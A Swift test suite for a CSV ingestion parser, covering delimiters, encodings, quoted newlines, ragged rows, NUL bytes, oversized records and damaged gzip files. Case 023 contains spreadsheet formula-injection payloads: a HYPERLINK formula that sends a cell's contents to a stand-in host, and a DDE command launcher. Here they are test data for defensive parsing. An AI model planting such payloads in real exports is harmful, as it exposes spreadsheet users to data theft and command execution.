import Foundation
import Testing
@testable import ImpactIngest

// One test per case folder of ../shared/cases that concerns parsing, encodings, gzip or
// dialect detection; each asserts the parse-level statements of the folder's `expect` list.

private func caseFile(_ path: String) -> String { sharedPath("cases/\(path)") }

// cases/001-semicolon-decimal-comma
@Test("001-semicolon-decimal-comma") func semicolonDelimiterWithDecimalCommasAndCommaLists() throws {
    let (sink, description, _) = try parseFile(caseFile("001-semicolon-decimal-comma/input.csv"))
    #expect(description.delimiter == ";")
    #expect(sink.names == ["id", "nom", "prenom", "email", "montant", "note"])
    #expect(sink.records.count == 4)
    #expect(sink.records.allSatisfy { $0.values.count == 6 })
    #expect(sink.value(0, "montant") == "12,50")
    #expect(sink.value(0, "note") == "client fidèle, relance en mars")
    #expect(sink.value(2, "note") == "['A12', 'B7']")
    #expect(sink.warnings.isEmpty)
}

// cases/002-tab-delimited-spaces-in-values
@Test("002-tab-delimited-spaces-in-values") func tabDelimiterAlthoughValuesContainSpaces() throws {
    let (sink, description, _) = try parseFile(caseFile("002-tab-delimited-spaces-in-values/input.csv"))
    #expect(description.delimiter == "\\t")
    #expect(sink.names == ["Nom complet", "Adresse postale", "Né le", "Téléphone fixe"])
    #expect(sink.records.count == 3)
    #expect(sink.records.allSatisfy { $0.values.count == 4 })
    #expect(sink.records[0].strings[0] == "Anne Marie Roux")
    #expect(sink.records[0].strings[1] == "4 rue Haute")
}

// cases/003-quoted-newline
@Test("003-quoted-newline") func quotedNewlinesStayInsideTheirField() throws {
    let (a, aDescription, _) = try parseFile(caseFile("003-quoted-newline/a.csv"))
    #expect(aDescription.delimiter == ",")
    #expect(a.records.count == 3)
    #expect(aDescription.lines == 8)
    #expect(a.value(0, "adresse") == "5 place du Marché\nBâtiment B, 2e étage\n69002 Lyon")
    #expect(a.value(2, "commentaire") == "Allergie connue\nà l'arachide")
    #expect(a.records.map(\.line) == [2, 5, 6])

    let (b, bDescription, reader) = try parseFile(caseFile("003-quoted-newline/b.csv"))
    #expect(reader.dialect.quote == UInt8(ascii: "\""))
    #expect(b.names == ["commentaire"])
    #expect(b.records.count == 1)
    #expect(b.records[0].strings == ["Patient suivi\npour asthme"])
    #expect(bDescription.header)
}

// cases/005-bom-quoted-first-header
@Test("005-bom-quoted-first-header") func bomBeforeAQuotedFirstHeaderIsStripped() throws {
    let (sink, description, _) = try parseFile(caseFile("005-bom-quoted-first-header/input.csv"))
    #expect(description.bom)
    #expect(description.encoding == "utf-8")
    #expect(description.delimiter == ";")
    #expect(sink.names == ["Nom", "Prénom", "Email"])
    #expect(!sink.names.contains { $0.unicodeScalars.contains("\u{FEFF}") || $0.contains("\"") })
    #expect(sink.records.count == 2)
    #expect(sink.records[0].strings == ["Rivière", "Noé", "noe.riviere@exemple.fr"])
}

// cases/006-ragged-rows
@Test("006-ragged-rows") func raggedRowsAreKeptAndWarned() throws {
    let (sink, description, _) = try parseFile(caseFile("006-ragged-rows/input.csv"))
    #expect(description.records == 4)
    #expect(sink.records.count == 4)
    #expect(sink.warnings == [
        InputWarning(line: 3, kind: .raggedRow, detail: "5 fields, header has 3"),
        InputWarning(line: 4, kind: .raggedRow, detail: "2 fields, header has 3"),
    ])
    // The overflow values of line 3 go to declared extra columns, not to the bin.
    #expect(sink.fields[3] == "extra_1" && sink.fields[4] == "extra_2")
    #expect(sink.records[1].values.map(\.field) == [0, 1, 2, 3, 4])
    #expect(sink.records[1].strings == ["Perrin", "Hugo", "hugo.perrin@exemple.fr", "0611223344", "à rappeler"])
    // Line 4: email missing, not shifted from another row.
    #expect(sink.records[2].strings == ["Roche", "Inès", ""])
    #expect(sink.value(2, "email") == "")
    #expect(sink.lateDeclarations.isEmpty)
    #expect(sink.records.indices.filter { !(sink.value($0, "email") ?? "").isEmpty }.count == 3)
}

// cases/007-trailing-blank-lines-and-no-final-eol
@Test("007-trailing-blank-lines-and-no-final-eol") func trailingBlankLinesAndMissingFinalEOL() throws {
    let (a, _, _) = try parseFile(caseFile("007-trailing-blank-lines-and-no-final-eol/a.csv"))
    #expect(a.records.count == 3)
    #expect(a.warnings.isEmpty)
    #expect(!a.records.contains { $0.strings.contains { $0.hasSuffix("\r") } })
    #expect(a.records.map(\.strings) == [["Aubert", "aubert@exemple.fr"], ["Brun", "brun@exemple.fr"], ["Caron", "caron@exemple.fr"]])

    let (b, bDescription, _) = try parseFile(caseFile("007-trailing-blank-lines-and-no-final-eol/b.csv"))
    #expect(b.records.map(\.strings) == [["1", "x.lemoine@exemple.fr"], ["2", ""], ["3", ""]])
    #expect(b.records.map { $0.values.count } == [2, 2, 2])
    #expect(b.warnings.isEmpty)
    #expect(bDescription.lines == 4)
}

// cases/009-very-long-field
@Test("009-very-long-field") func veryLongFieldIsNotTruncatedOrRejected() throws {
    let (sink, _, _) = try parseFile(caseFile("009-very-long-field/input.csv"))
    #expect(sink.records.count == 3)
    #expect(sink.rejections.isEmpty)
    let notes = try #require(sink.value(0, "notes"))
    #expect(notes.unicodeScalars.count == 200_075)
    #expect(notes.hasSuffix("Conclusion: insuffisance rénale chronique, contact marc.tessier@exemple.fr"))
}

// cases/010-nul-byte-in-field
@Test("010-nul-byte-in-field") func nulBytesAreRemovedAndWarned() throws {
    let (sink, description, _) = try parseFile(caseFile("010-nul-byte-in-field/input.csv"))
    #expect(description.encoding == "utf-8")
    #expect(sink.records.count == 3)
    #expect(sink.value(0, "nom") == "Garnier")
    #expect(sink.value(2, "nom") == "Weber")
    #expect(sink.value(2, "email") == "")
    #expect(!sink.records.contains { $0.strings.contains { $0.utf8.contains(0) } })
    #expect(sink.warnings == [
        InputWarning(line: 2, kind: .nulBytes, detail: "1 NUL byte removed", amount: 1),
        InputWarning(line: 4, kind: .nulBytes, detail: "2 NUL bytes removed", amount: 2),
    ])
}

// cases/011-windows-1252-french-export
@Test("011-windows-1252-french-export") func windows1252FrenchExport() throws {
    let (sink, description, _) = try parseFile(caseFile("011-windows-1252-french-export/input.csv"))
    #expect(description.encoding == "windows-1252")
    #expect(description.delimiter == ";")
    #expect(sink.names == ["Nom", "Prénom", "Ville", "Commentaire"])
    #expect(sink.records.count == 3)
    #expect(sink.value(0, "Nom") == "L’Hôte")
    #expect(sink.value(0, "Commentaire") == "acompte 30 € reçu")
    #expect(sink.value(1, "Commentaire") == "sœur à prévenir")
    let everything = sink.names + sink.records.flatMap(\.strings)
    #expect(!everything.contains { $0.unicodeScalars.contains { $0 == "\u{FFFD}" || (0x80...0x9F).contains($0.value) } })
    #expect(sink.warnings.isEmpty)
}

// cases/013-utf16le-excel-unicode-text
@Test("013-utf16le-excel-unicode-text", arguments: ["with-bom.txt", "no-bom.csv"])
func utf16LEExcelUnicodeText(_ file: String) throws {
    let (sink, description, _) = try parseFile(caseFile("013-utf16le-excel-unicode-text/\(file)"))
    #expect(description.encoding == "utf-16le")
    #expect(description.bom == (file == "with-bom.txt"))
    #expect(description.delimiter == "\\t")
    #expect(sink.names.count == 4)
    #expect(sink.names[3] == "N° Sécurité sociale")
    #expect(sink.records.count == 3)
    #expect(sink.value(0, "Prénom") == "Élodie")
    #expect(!sink.records.contains { $0.strings.contains { $0.utf8.contains(0) } })
    #expect(sink.warnings.isEmpty)
}

// cases/023-csv-formula-injection (parsing only: payloads are plain text)
@Test("023-csv-formula-injection") func formulaPayloadsAreReadAsPlainText() throws {
    let (sink, description, _) = try parseFile(caseFile("023-csv-formula-injection/input.csv"))
    #expect(description.delimiter == ",")
    #expect(sink.names == ["=HYPERLINK(\"http://exemple.invalid/h\",\"Ouvrir\")", "nom", "tel", "solde", "commentaire"])
    #expect(sink.records.count == 3)
    #expect(sink.records.allSatisfy { $0.values.count == 5 })
    #expect(sink.records[0].strings[1] == "=HYPERLINK(\"http://exemple.invalid/?d=\"&C2,\"Voir\")")
    #expect(sink.records[0].strings[2] == "+33 6 98 76 54 32")
    #expect(sink.records[0].strings[3] == "-2+3")
    #expect(sink.records[1].strings[4] == "\t=1+1")
    #expect(sink.records[2].strings[4] == "=cmd|' /C calc'!A0")
}

// cases/024-huge-single-line: the same shape as make_input.py, smaller (an 8 MiB line against
// a 1 MiB record limit), generated in a temporary directory.
@Test("024-huge-single-line") func hugeSingleLineIsRejectedAndReadingGoesOn() throws {
    let dir = try temporaryDirectory()
    defer { try? FileManager.default.removeItem(at: dir) }
    let file = dir.appendingPathComponent("input.csv")
    var data = bytes("id,nom,email,notes\n1,Aubry,aubry@exemple.fr,ok\n2,Blot,blot@exemple.fr,")
    data.append(contentsOf: [UInt8](repeating: UInt8(ascii: "x"), count: 8 << 20))
    data.append(contentsOf: bytes("\n3,Cordier,cordier@exemple.fr,ok\n"))
    try Data(data).write(to: file)
    var options = CSVOptions()
    options.limits.maxRecordBytes = 1 << 20
    let (sink, description, _) = try parseFile(file.path, options: options)
    #expect(sink.records.map(\.line) == [2, 4])
    #expect(sink.value(0, "email") == "aubry@exemple.fr")
    #expect(sink.value(1, "email") == "cordier@exemple.fr")
    #expect(sink.rejections.map(\.line) == [3])
    #expect(sink.rejections.map(\.reason) == [.recordTooLarge])
    #expect(description.records == 3)
    #expect(description.rejectedRecords == 1)
    #expect(description.lines == 4)
}

// cases/025-truncated-gzip
@Test("025-truncated-gzip a-truncated.csv.gz") func truncatedGzipFailsWithPartialCount() throws {
    let path = caseFile("025-truncated-gzip/a-truncated.csv.gz")
    let error = try #require(throws: IngestError.self) { try parseFile(path) }
    #expect(error.kind == .truncatedGzip)
    #expect(error.path == path)
    // The intact prefix holds 885 complete records (of 1500); the cut record is not counted.
    #expect(error.recordsBeforeFailure == 885)
    #expect(error.message.contains("truncated"))
    #expect(error.description.hasPrefix(path))
}

// cases/025-truncated-gzip
@Test("025-truncated-gzip b-bad-crc.csv.gz") func gzipWithBadCRCFails() throws {
    let path = caseFile("025-truncated-gzip/b-bad-crc.csv.gz")
    let error = try #require(throws: IngestError.self) { try parseFile(path) }
    #expect(error.kind == .corruptGzip)
    #expect(error.path == path)
    // Every record was inflated before the trailer's check failed: counts exist but are unverified.
    #expect(error.recordsBeforeFailure == 1500)
    #expect(error.message.contains("CRC check failed"))
}
